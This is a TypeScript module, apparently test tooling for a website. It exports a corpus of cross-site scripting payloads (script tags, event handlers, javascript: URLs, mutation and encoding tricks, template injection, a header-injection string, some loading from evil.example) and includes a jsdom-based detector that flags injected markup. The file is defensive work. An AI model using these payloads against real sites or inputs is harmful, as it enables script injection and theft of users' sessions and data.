import { JSDOM, VirtualConsole } from 'jsdom';

/**
 * Texts that run a script, or break out of their place, where they are written as markup: by elements, event handlers,
 * addresses, incomplete tags, other encodings, templates and the repairs of parsers (mutations).
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onfocus=alert(1) autofocus',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  'javascript:alert(1)//https://x',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '\u2028</script\u2029><script>alert(1)</script>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '{{ "<script>alert(1)</script>" | raw }}',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  '{{ constructor.constructor("alert(1)")() }}',
  '${alert(1)}',
  '\\"};alert(1)//',
  "');alert(1)//",
  '{"@type":"x","y":"</script><script>alert(1)</script>"}',
  'https://x.example/" onclick="alert(1)',
  "https://x.example/'><script>alert(1)</script>",
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
];

/** Elements that no page of the site and no e-mail has, unless somebody injected them. */
const FOREIGN =
  'object, embed, applet, base, iframe, frame, math, style, meta[http-equiv], marquee, video, audio';
const ADDRESSES = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'srcdoc',
  'poster',
  'background',
];

/** The members of a document's elements that are used here. */
type Found = {
  outerHTML: string;
  textContent: string | null;
  attributes: Iterable<{ name: string; value: string }>;
  getAttribute: (name: string) => string | null;
};
type Dom = { querySelectorAll: (selector: string) => Iterable<Found> };

/**
 * Finds what in a page would run, load or lead to an address that is not allowed. It is parsed as a browser parses it.
 * @returns the text of each finding; none for a page that is safe
 */
export function dangersIn(html: string): string[] {
  // In a browser that runs scripts, `noscript` contains only text, as `xmp` does everywhere.
  const asRun = html.replaceAll(/<(\/?)noscript/gi, '<$1xmp');
  const { window } = new JSDOM(asRun, { virtualConsole: new VirtualConsole() });
  const document = window.document as unknown as Dom;
  const found = [...document.querySelectorAll(FOREIGN)].map(({ outerHTML }) => outerHTML);
  for (const script of document.querySelectorAll('script')) {
    const own = script.getAttribute('src')?.startsWith('/site/assets/') && script.textContent === '';
    if (!own && !isData(script)) found.push(script.outerHTML);
  }
  for (const link of document.querySelectorAll('link[rel=stylesheet]'))
    if (!link.getAttribute('href')?.startsWith('/site/')) found.push(link.outerHTML);
  for (const element of document.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      const scheme = /^[\s\0-\x20]*([a-z][a-z\d+.-]*):/i
        .exec(value.replaceAll(/[\t\n\r]/g, ''))?.[1]
        ?.toLowerCase();
      const leads =
        ADDRESSES.includes(name) && scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme);
      if (name.startsWith('on') || leads || name === 'autofocus') found.push(`${name}="${value}"`);
    }
  window.close();
  return found;
}

/** Whether a script is valid data for search engines, and not a program. */
function isData(script: Found): boolean {
  if (script.getAttribute('type') !== 'application/ld+json') return false;
  try {
    return typeof JSON.parse(script.textContent ?? '') === 'object';
  } catch {
    return false;
  }
}
